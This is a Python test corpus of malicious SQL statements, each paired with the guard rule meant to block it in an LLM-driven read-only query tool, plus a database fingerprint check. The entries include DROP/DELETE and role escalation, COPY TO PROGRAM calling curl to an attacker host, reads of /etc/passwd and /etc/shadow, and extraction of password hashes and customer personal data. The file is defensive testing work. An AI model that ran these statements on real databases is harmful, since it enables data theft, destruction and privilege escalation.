"""The attack corpus: statements an LLM (or a person in the SQL editor) might send, and the rules
that must stop them. ``None`` as rules: the guard lets it through and a later layer must (the
statement timeout)."""

from __future__ import annotations

from hashlib import sha256

from sqlalchemy import Engine, text

ATTACKS: list[tuple[str, str, set[str] | None]] = [
    ("dos sentencias", "SELECT 1; DROP TABLE users", {"una_sentencia"}),
    ("select y delete", "SELECT * FROM erp_productos; DELETE FROM erp_productos", {"una_sentencia"}),
    ("drop", "DROP TABLE erp_productos", {"solo_select"}),
    ("delete", "DELETE FROM erp_ventas", {"solo_select"}),
    ("update de rol", "UPDATE users SET role = 'admin'", {"solo_select"}),
    ("insert", "INSERT INTO users (email, name, password_hash) VALUES ('x@x.mx', 'x', 'x')", {"solo_select"}),
    ("delete en CTE", "WITH d AS (DELETE FROM erp_productos RETURNING *) SELECT * FROM d", {"solo_select", "sintaxis"}),
    ("update en CTE", "WITH u AS (UPDATE users SET role = 'admin' RETURNING id) SELECT count(*) FROM u", {"solo_select", "sintaxis"}),
    ("insert en CTE", "WITH i AS (INSERT INTO erp_almacenes (nombre) VALUES ('x') RETURNING id) SELECT * FROM i", {"solo_select", "sintaxis"}),
    ("copy to program", "COPY (SELECT * FROM users) TO PROGRAM 'curl http://atacante'", {"solo_select", "sintaxis"}),
    ("copy from archivo", "COPY erp_productos FROM '/etc/passwd'", {"solo_select", "sintaxis"}),
    ("pg_sleep", "SELECT pg_sleep(30)", {"funcion_peligrosa"}),
    ("pg_sleep en where", "SELECT * FROM erp_productos WHERE pg_sleep(10) IS NOT NULL", {"funcion_peligrosa"}),
    ("pg_read_file", "SELECT pg_read_file('/etc/passwd')", {"funcion_peligrosa"}),
    ("pg_read_binary_file", "SELECT pg_read_binary_file('/etc/shadow')", {"funcion_peligrosa"}),
    ("dblink", "SELECT * FROM dblink('host=atacante', 'select 1') AS t(a int)", {"funcion_peligrosa", "tablas_permitidas", "sintaxis"}),
    ("set_config", "SELECT set_config('role', 'postgres', false)", {"funcion_peligrosa"}),
    ("current_setting", "SELECT current_setting('data_directory')", {"funcion_peligrosa"}),
    ("lo_import", "SELECT lo_import('/etc/passwd')", {"funcion_peligrosa"}),
    ("lo_export", "SELECT lo_export(1, '/tmp/x')", {"funcion_peligrosa"}),
    ("comentario de bloque y segunda sentencia", "SELECT 1 /* solo un comentario */; DROP TABLE users --", {"una_sentencia"}),
    ("comentario de línea esconde segunda sentencia", "SELECT 1 -- comentario\n; DELETE FROM users", {"una_sentencia"}),
    ("union a users", "SELECT codigo FROM erp_productos UNION SELECT email FROM users", {"tablas_permitidas"}),
    ("union all hashes", "SELECT nombre FROM erp_productos UNION ALL SELECT password_hash FROM users", {"tablas_permitidas"}),
    ("pg_shadow", "SELECT * FROM pg_catalog.pg_shadow", {"tablas_permitidas"}),
    ("pg_user", "SELECT usename FROM pg_user", {"tablas_permitidas"}),
    ("information_schema", "SELECT table_name FROM information_schema.tables", {"tablas_permitidas"}),
    ("sqlite_master", "SELECT * FROM sqlite_master", {"tablas_permitidas"}),
    ("main.sqlite_master", "SELECT sql FROM main.sqlite_master", {"tablas_permitidas"}),
    ("query_history", "SELECT * FROM query_history", {"tablas_permitidas"}),
    ("sync_jobs", "SELECT * FROM sync_jobs", {"tablas_permitidas"}),
    ("uploads", "SELECT * FROM uploads", {"tablas_permitidas"}),
    ("subconsulta a users", "SELECT * FROM erp_productos WHERE id IN (SELECT id FROM users)", {"tablas_permitidas"}),
    ("derivada de users", "SELECT * FROM (SELECT * FROM users) u", {"tablas_permitidas"}),
    ("CTE fuera de alcance", "SELECT * FROM (WITH users2 AS (SELECT 1 AS a) SELECT a FROM users2) s, users2", {"tablas_permitidas"}),
    ("CTE que se llama users", "WITH users AS (SELECT 1 AS a) SELECT * FROM users", {"tablas_permitidas"}),
    ("select into", "SELECT * INTO copia FROM erp_productos", {"solo_select"}),
    ("for update", "SELECT * FROM erp_productos FOR UPDATE", {"solo_select"}),
    ("create table as", "CREATE TABLE copia AS SELECT * FROM erp_productos", {"solo_select"}),
    ("alter role", "ALTER ROLE postgres PASSWORD 'x'", {"solo_select", "sintaxis"}),
    ("grant", "GRANT ALL ON users TO PUBLIC", {"solo_select", "sintaxis"}),
    ("set role", "SET ROLE postgres", {"solo_select", "sintaxis"}),
    ("attach", "ATTACH DATABASE '/tmp/x.db' AS x", {"solo_select", "sintaxis"}),
    ("pragma", "PRAGMA writable_schema = 1", {"solo_select", "sintaxis"}),
    ("load_extension", "SELECT load_extension('/tmp/malo.so')", {"funcion_peligrosa"}),
    ("pragma como tabla", "SELECT * FROM pragma_table_info('users')", {"tablas_permitidas", "funcion_peligrosa"}),
    ("version", "SELECT version()", {"funcion_peligrosa"}),
    ("truncate", "TRUNCATE erp_ventas", {"solo_select", "sintaxis"}),
    ("nextval", "SELECT nextval('users_id_seq')", {"funcion_peligrosa"}),
    ("query_to_xml", "SELECT query_to_xml('select * from users', true, true, '')", {"funcion_peligrosa"}),
    ("explain analyze delete", "EXPLAIN ANALYZE DELETE FROM erp_productos", {"solo_select", "sintaxis"}),
    ("vacuum", "VACUUM", {"solo_select", "sintaxis"}),
    ("lock table", "LOCK TABLE erp_productos", {"solo_select", "sintaxis"}),
    ("bloque DO", "DO $$ BEGIN DELETE FROM users; END $$", {"solo_select", "sintaxis", "una_sentencia"}),
    ("parámetro", "SELECT * FROM erp_productos WHERE nombre = $1", {"sintaxis"}),
    ("subconsulta escalar a users", "SELECT 'a' || (SELECT email FROM users LIMIT 1)", {"tablas_permitidas"}),
    ("generate_series", "SELECT generate_series(1, 100000000)", {"funcion_peligrosa", "funcion_no_permitida"}),
    ("función desconocida", "SELECT obtener_secreto()", {"funcion_no_permitida"}),
    ("vacía", "   ", {"vacia"}),
    ("demasiado larga", "SELECT 1 " + "+ 1 " * 3000, {"longitud"}),
    # Customer personal data (schema.PRIVATE_COLUMNS): by name, through *, a whole-row reference or renamed.
    ("RFC y correo de clientes", "SELECT nombre, rfc, email FROM erp_clientes", {"datos_personales"}),
    ("teléfono con alias de tabla", "SELECT c.nombre, c.telefono FROM erp_clientes c", {"datos_personales"}),
    ("dirección sólo en el WHERE", "SELECT nombre FROM erp_clientes WHERE direccion LIKE '%Zapopan%'", {"datos_personales"}),
    ("asterisco sobre clientes", "SELECT * FROM erp_clientes", {"datos_personales"}),
    ("c.* en un join", "SELECT v.folio, c.* FROM erp_ventas v JOIN erp_clientes c ON c.id = v.cliente_id", {"datos_personales"}),
    ("asterisco en subconsulta de clientes", "SELECT s.* FROM (SELECT * FROM erp_clientes) s", {"datos_personales"}),
    ("fila completa de clientes", "SELECT c FROM erp_clientes c", {"datos_personales"}),
    ("campo de la fila completa", "SELECT (c).rfc FROM erp_clientes c", {"datos_personales", "sintaxis"}),
    ("columnas renombradas por posición", "SELECT x6 FROM erp_clientes AS c(a1, a2, a3, a4, a5, x6)", {"datos_personales", "sintaxis"}),
    ("correo en una CTE", "WITH k AS (SELECT id, email AS contacto FROM erp_clientes) SELECT contacto FROM k", {"datos_personales"}),
    ("producto cruz eterno", "SELECT count(*) FROM erp_ventas_detalle a, erp_ventas_detalle b, erp_ventas_detalle c, erp_ventas_detalle d", None),
    ("recursión infinita", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r", None),
]


def fingerprint(engine: Engine) -> str:
    """A digest of everything an attack could change: every table's rows, the schema and the roles."""
    parts: list[str] = []
    with engine.connect() as conn:
        if engine.dialect.name == "postgresql":
            tables = conn.execute(text(
                "SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY 1")).scalars().all()
            # Roles are cluster-wide: other databases' AI roles (other test runs, benches) come and go
            # meanwhile, so they are left out; this database's and every other role are compared.
            parts.append(repr(conn.execute(text(
                "SELECT rolname, rolsuper, rolcanlogin FROM pg_roles WHERE rolname !~ '_ask_(reader|history)$' "
                "OR left(rolname, length(current_database()) + 1) = current_database() || '_' ORDER BY 1")).all()))
            parts.append(repr(conn.execute(text(
                "SELECT table_name, column_name, data_type FROM information_schema.columns "
                "WHERE table_schema = 'public' ORDER BY 1, 2")).all()))
        else:
            tables = conn.execute(text(
                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY 1")).scalars().all()
            parts.append(repr(conn.execute(text("SELECT type, name, sql FROM sqlite_master ORDER BY 2")).all()))
        for table in tables:
            if table == "query_history":  # the pipeline writes its own history rows on purpose
                continue
            rows = conn.execute(text(f'SELECT * FROM "{table}"')).all()
            parts.append(f"{table}:{sha256(repr(sorted(map(repr, rows))).encode()).hexdigest()}")
    return sha256("\n".join(parts).encode()).hexdigest()
